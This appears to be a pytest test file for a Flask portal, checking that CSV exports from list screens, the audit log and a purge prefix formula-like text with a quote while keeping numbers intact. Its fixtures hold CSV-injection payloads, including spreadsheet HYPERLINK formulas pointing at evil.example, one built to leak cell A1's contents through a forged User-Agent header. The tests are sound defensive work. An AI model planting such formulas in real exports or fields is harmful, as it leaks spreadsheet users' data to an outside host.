"""CSV injection (app/fieldtypes/spreadsheet.py): every export — the list screens, the audit
log, a purge — writes text starting with = + - @ tab or CR behind a single quote, so a
spreadsheet shows it instead of running it; numbers stay numbers; the import reads the
neutralised text back as it was stored."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from app.fieldtypes.spreadsheet import from_csv_cell, to_csv_cell
from app.portal import portal_of
from app.schema.purge import _write_csv
from tests.support.app import login
from tests.support.audit import events_after, last_seq
from tests.support.factories import make_record
from tests.support.importer import run

FORMULAS = ['=HYPERLINK("http://evil.example","点我")', "+1+1", "-2", "@SUM(1)",
            "\t=1+1", "\r=1+1"]
# Already quoted formula text gets one more quote, so that the import can take one away.
QUOTED = ["'=1+1", "''-2"]


@pytest.fixture(scope="module")
def csv_app(make_app: Callable[..., Flask]) -> Flask:
    return make_app()


def _rows(response: TestResponse) -> list[dict[str, str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body[1:])))


def _label(app: Flask, form: str, field: str) -> str:
    return portal_of(app).spec.form(form).field(field).label.zh


@pytest.mark.parametrize("value", [*FORMULAS, *QUOTED])
def test_to_csv_cell_quotes_formula_text_and_from_csv_cell_undoes_it(value: str) -> None:
    assert to_csv_cell(value) == "'" + value
    assert from_csv_cell(to_csv_cell(value)) == value


@pytest.mark.parametrize("value", ["", "'", "''", "张三", "a=1", "1-2", "'abc", "#12",
                                   "2026-01-15"])
def test_other_text_is_written_and_read_as_it_is(value: str) -> None:
    assert to_csv_cell(value) == value and from_csv_cell(value) == value


@pytest.mark.parametrize("value", [-2, Decimal("-2.00"), 0, None, 3.5])
def test_numbers_and_empty_cells_are_not_text(value: Any) -> None:
    assert to_csv_cell(value) is value


def test_list_exports_neutralise_every_formula_cell(csv_app: Flask) -> None:
    spec = portal_of(csv_app).spec
    customers = {value: make_record(csv_app, spec.form("customer"), name=value,
                                    company=value, notes=value).id
                 for value in [*FORMULAS, *QUOTED, "张三"]}
    complaints = {value: make_record(csv_app, spec.form("complaint"), product_name=value,
                                     customer=customers["张三"]).id for value in FORMULAS}
    client = csv_app.test_client()
    login(client, "admin")
    rows = {r["编号"]: r for r in _rows(client.get("/customerview/export/"))}
    for value, pk in customers.items():
        expected = value if value == "张三" else "'" + value
        assert [rows[str(pk)][_label(csv_app, "customer", f)]
                for f in ("name", "company", "notes")] == [expected] * 3, value
    rows = {r["编号"]: r for r in _rows(client.get("/complaintview/export/"))}
    for value, pk in complaints.items():
        assert rows[str(pk)][_label(csv_app, "complaint", "product_name")] == "'" + value
        assert rows[str(pk)][_label(csv_app, "complaint", "customer")] == "张三"
    with csv_app.app_context():  # only the export is neutralised, not what is stored
        model = portal_of(csv_app).models.models["customer"]
        stored = csv_app.appbuilder.session.get(model, customers["+1+1"])
        assert (stored.name, stored.company, stored.notes) == ("+1+1", "+1+1", "+1+1")


def test_a_negative_number_stays_a_number_and_text_is_quoted(csv_app: Flask) -> None:
    spec = portal_of(csv_app).spec
    compensation = make_record(csv_app, spec.form("compensation"), amount=Decimal("-2.00"),
                               reason="-2")
    survey = make_record(csv_app, spec.form("satisfaction_survey"), recommend=-2)
    client = csv_app.test_client()
    login(client, "admin")
    row = {r["编号"]: r for r in _rows(client.get("/compensationview/export/"))}[
        str(compensation.id)]
    assert row[_label(csv_app, "compensation", "amount")] == "-2.00"
    assert row[_label(csv_app, "compensation", "reason")] == "'-2"
    row = {r["编号"]: r for r in _rows(client.get("/satisfactionsurveyview/export/"))}[
        str(survey.id)]
    assert row[_label(csv_app, "satisfaction_survey", "recommend")] == "-2"


def test_an_export_imports_back_to_the_values_stored(csv_app: Flask, tmp_path: Path) -> None:
    """Import strips the spaces around a cell (tab and CR included): those two forms come
    back without them, as before; every other value exactly."""
    spec = portal_of(csv_app).spec
    values = [v for v in (*FORMULAS, *QUOTED) if not v[0].isspace()]
    mark = "导回"
    for value in values:
        make_record(csv_app, spec.form("customer"), name=value, company=mark, notes=value)
    client = csv_app.test_client()
    login(client, "admin")
    flt = "_flt_3_company"  # FilterEqual on a string column
    export = client.get(f"/customerview/export/?{flt}={mark}")
    values.reverse()  # in the list's order: the newest first
    assert [r[_label(csv_app, "customer", "name")] for r in _rows(export)] == [
        "'" + v for v in values]
    path = tmp_path / "customers.csv"
    path.write_bytes(export.get_data())
    model = portal_of(csv_app).models.models["customer"]
    with csv_app.app_context():
        before = csv_app.appbuilder.session.query(model.id).count()
    outcome, errors = run(csv_app, path, form="customer", username="admin")
    assert errors == [] and outcome.rows == len(values) and outcome.stored
    with csv_app.app_context():
        new = csv_app.appbuilder.session.query(model).order_by(model.id).offset(before).all()
        assert [(c.name, c.company, c.notes) for c in new] == [
            (v, mark, v) for v in values]


def test_the_audit_export_neutralises_a_formula_user_agent(csv_app: Flask) -> None:
    agent = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
    before = last_seq(csv_app)
    staff = csv_app.test_client()
    login(staff, "staff")
    assert staff.get("/customerview/list/", headers={"User-Agent": agent}).status_code == 200
    [event] = events_after(csv_app, before, "list")
    assert event.user_agent == agent  # stored as sent
    auditor = csv_app.test_client()
    login(auditor, "auditor")
    rows = {r["编号"]: r for r in _rows(auditor.get("/audit/export/"))}
    row = rows[str(event.id)]
    assert row["浏览器"] == "'" + agent
    assert (row["序号"], row["用户编号"], row["用户"]) == (
        str(event.seq), str(event.user_id), "staff")


def test_the_purge_export_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "customer.notes.csv"
    _write_csv(str(path), ["id", "notes", "amount"], [
        (1, "=1+1", Decimal("-2.50")), (2, "-2", -2), (3, "'@x", None), (4, "普通", 0)])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh)) == [["id", "notes", "amount"], ["1", "'=1+1", "-2.50"],
                                        ["2", "'-2", "-2"], ["3", "''@x", ""],
                                        ["4", "普通", "0"]]
